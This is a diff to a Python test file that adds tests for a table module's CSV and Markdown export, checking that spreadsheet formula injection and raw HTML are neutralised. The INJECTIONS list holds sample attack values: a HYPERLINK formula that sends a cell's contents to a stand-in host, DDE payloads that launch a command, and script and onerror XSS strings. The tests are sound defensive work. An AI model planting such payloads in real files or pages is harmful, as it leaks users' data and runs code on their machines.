@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import enum
+import io
 import json
 from decimal import Decimal
 from fractions import Fraction
@@ -11,7 +13,8 @@ from fractions import Fraction
 import attrs
 import pytest
 
-from ppid_core._tables import Table, dumps_json, jsonable
+from ppid_core._tables import Table, dumps_json, formula_safe, jsonable
+from ppid_core.errors import InvalidArgumentError, PpidError
 
 
 def test_markdown_escapes_pipes_and_aligns_numbers() -> None:
@@ -32,8 +35,70 @@ def test_csv_quotes_and_formats_cells() -> None:
 
 
 def test_row_width_checked() -> None:
-    with pytest.raises(ValueError, match=r"row 0 has 1 cells; the table has 2 columns"):
+    with pytest.raises(InvalidArgumentError) as info:
         Table(columns=("a", "b"), rows=[(1,)])
+    assert str(info.value) == "row 0 has 1 cells; the table has 2 columns"
+    assert isinstance(info.value, PpidError)
+    assert isinstance(info.value, ValueError)
+
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", INJECTIONS)
+def test_csv_text_cells_never_start_a_formula(text: str) -> None:
+    # OWASP: a leading single quote makes the spreadsheet show the cell as text
+    t = Table(columns=(text, "n"), rows=[(text, 1)])
+    header, row = list(csv.reader(io.StringIO(t.to_csv(), newline="")))
+    safe = "'" + text.replace("\r", "\n")  # a lone CR would end the row in Excel
+    assert header == [safe, "n"]
+    assert row == [safe, "1"]
+
+
+def test_csv_carriage_returns_stay_inside_their_cell() -> None:
+    t = Table(columns=("a", "b"), rows=[("baris 1\rbaris 2\r\nbaris 3", 1)])
+    assert t.to_csv() == 'a,b\n"baris 1\nbaris 2\nbaris 3",1\n'
+
+
+def test_csv_numbers_stay_numbers_even_negative() -> None:
+    t = Table(
+        columns=("int", "float", "decimal", "fraction", "text"),
+        rows=[(-3, -2.5, Decimal("-90.67"), Fraction(-1, 4), "-3")],
+    )
+    assert t.to_csv().splitlines()[1] == "-3,-2.5,-90.67,-0.25,'-3"
+
+
+def test_formula_safe() -> None:
+    assert [formula_safe(t) for t in ("KPU", "", "a=b", "'=x", "=x")] == [
+        "KPU",
+        "",
+        "a=b",
+        "'=x",
+        "'=x",
+    ]
+
+
+def test_markdown_escapes_raw_html() -> None:
+    t = Table(
+        columns=("Unit <b>", "Usia"),
+        rows=[("<script>alert(1)</script>", "< 20"), ("<img src=x onerror=alert(1)>", ">= 60")],
+        title="<!-- x -->",
+    )
+    assert t.to_markdown().splitlines() == [
+        "**&lt;!-- x -->**",
+        "",
+        "| Unit &lt;b> | Usia |",
+        "|---|---|",
+        "| &lt;script>alert(1)&lt;/script> | < 20 |",
+        "| &lt;img src=x onerror=alert(1)> | >= 60 |",
+    ]
 
 
 class Colour(enum.Enum):
